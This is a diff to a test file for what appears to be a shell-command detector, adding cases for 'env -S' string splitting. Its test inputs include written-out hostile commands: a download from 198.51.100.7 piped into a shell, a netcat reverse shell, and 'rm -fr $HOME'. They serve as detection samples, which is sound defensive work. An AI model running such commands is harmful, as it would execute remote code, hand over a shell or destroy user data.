@@ -28,6 +28,8 @@ describe('the command a launcher runs is parsed', () => {
     ['gdb --eval-command=', `gdb -q --eval-command='!uname -a' --batch`, 'uname -a'],
     ['ed, from a heredoc', `ed -s f <<'E'\n!hostname\nq\nE`, 'hostname'],
     ['xterm -e', `xterm -geometry 80x24 -e top -b`, 'top -b'],
+    ['env -S, its string split and the words after it appended', `env -S 'python3 -u' serve.py --port 8`, 'python3 -u serve.py --port 8'],
+    ['env --split-string= after -i', `env -i --split-string="ls -la" /srv`, 'ls -la /srv'],
   ])('%s', (_name, line, inner) => {
     expect(argvs(line)).toContain(inner);
   });
@@ -48,6 +50,8 @@ describe('detections on what a launcher runs', () => {
     ['npx -c fetching a script', `npx -c "wget -qO- http://198.51.100.7/p | sh"`, 'download-piped-to-shell'],
     ['expect spawning a reverse shell', `expect -c 'spawn nc -e /bin/bash 198.51.100.7 8443; interact'`, 'reverse-shell-netcat'],
     ['ssh -o ProxyCommand running a fetched script', `ssh -o ProxyCommand='sh -c "curl -s http://198.51.100.7/x | sh"' bastion`, 'download-piped-to-shell'],
+    ['env -S splitting a shell line that fetches and runs', `/usr/bin/env -vS "dash -c 'wget -qO- http://198.51.100.7/e | dash'"`, 'download-piped-to-shell'],
+    ['env -S wiping the home directory', `env -S"rm -fr" $HOME`, 'destructive-delete'],
   ])('%s', (_name, command, rule) => {
     expect(rulesOfCommand(command)).toContain(rule);
   });
@@ -64,6 +68,7 @@ describe('detections on what a launcher runs', () => {
     ['a lock around the build', `flock /tmp/build.lock -c 'npm run build'`],
     ['a process traced', `strace -f -e trace=file node server.js`],
     ['watching pods', `watch -n 2 kubectl get pods -n dev`],
+    ['a script run through env -S with flags', `env -S 'node --enable-source-maps' dist/cli.js --help`],
   ])('quiet: %s', (_name, command) => {
     expect(rulesOfCommand(command)).toEqual([]);
   });
